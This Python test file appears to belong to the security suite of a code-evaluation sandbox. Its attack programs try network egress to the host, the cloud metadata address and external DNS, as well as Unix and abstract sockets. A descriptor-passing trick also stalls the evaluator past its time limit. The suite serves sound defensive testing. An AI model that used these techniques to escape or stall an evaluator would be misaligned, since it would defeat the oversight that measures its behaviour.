"""Speaking to anything but the evaluator. The host listens on each kind of address and hears nothing."""

from __future__ import annotations

import textwrap

from evaluators.results import Outcome
from tests.attacks.attack import Attack, program

THEME = "network"
SCORED = (Outcome.SCORED,)

SPEAK = '''
import socket


def speak(family, address, kind=socket.SOCK_STREAM):
    """Connect and send; what the host hears is the proof."""
    def go():
        with socket.socket(family, kind) as s:
            s.settimeout(1)
            s.connect(address)
            s.send(b"@MARK@")
    tried(go)
'''


def _speaking(name: str, what: str, body: str, *, quick: bool = False) -> Attack:
    return Attack(
        name=name,
        theme=THEME,
        property=f"no {what} can be reached",
        source=program(textwrap.dedent(body) + "\nhonest(session)\n", head=SPEAK),
        outcomes=SCORED,
        scores_as_honest=True,
        quick=quick,
        needs_isolation=True,
    )


LINGER = """
import socket, struct
def pair():
    listener = socket.create_server(("127.0.0.1", 0))
    near = socket.create_connection(listener.getsockname())
    far, _ = listener.accept()
    near.setblocking(False)
    try:
        while True:
            near.send(bytes(1 << 20))
    except BlockingIOError:
        near.setblocking(True)
    near.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 100_000))
    return near, far
def hand_over():
    near, far = pair()
    # The evaluator receives, and so closes, the sending end while the other end is in flight and cannot be closed.
    socket.send_fds(session._channel._socket, [b"\\x10"], [near.fileno(), far.fileno()])
    near.close()
    far.close()
    session._channel._socket.sendall(bytes(3))
    time.sleep(2)
print(repr(tried(hand_over)))
while True:
    time.sleep(1)
"""

ATTACKS = (
    _speaking("tcp", "port of the host or the network", """
        for address in (("127.0.0.1", @TCP@), ("0.0.0.0", @TCP@), ("1.1.1.1", 53), ("169.254.169.254", 80)):
            speak(socket.AF_INET, address)
        speak(socket.AF_INET6, ("::1", @TCP@))
    """, quick=True),
    _speaking("udp_and_dns", "name server and no datagram socket", """
        for address in (("127.0.0.1", @UDP@), ("0.0.0.0", @UDP@)):
            speak(socket.AF_INET, address, socket.SOCK_DGRAM)
        print(repr(tried(lambda: socket.getaddrinfo("@MARK@.example.com", 80))))
    """),
    _speaking("unix_socket", "Unix socket in a folder of the host", """
        for path in ("@UNIX@", "/proc/1/root@UNIX@"):
            speak(socket.AF_UNIX, path)
    """),
    _speaking("abstract_socket", "abstract Unix socket of the host", r"""
        speak(socket.AF_UNIX, "\0@ABSTRACT@")
        for family in (16, 17, 31, 38, 40):
            tried(lambda: speak(family, (2, 1)))
    """),
    Attack(
        name="lingering_connection",
        theme=THEME,
        property="a descriptor in flight whose closing takes forever does not hold the evaluator beyond the time limit",
        source=program(LINGER),
        outcomes=(Outcome.TIMED_OUT,),
        pace="hasty",
        quick=True,
        harm="holds the evaluator for a day on kernels before 6.16",
    ),
)  # fmt: skip
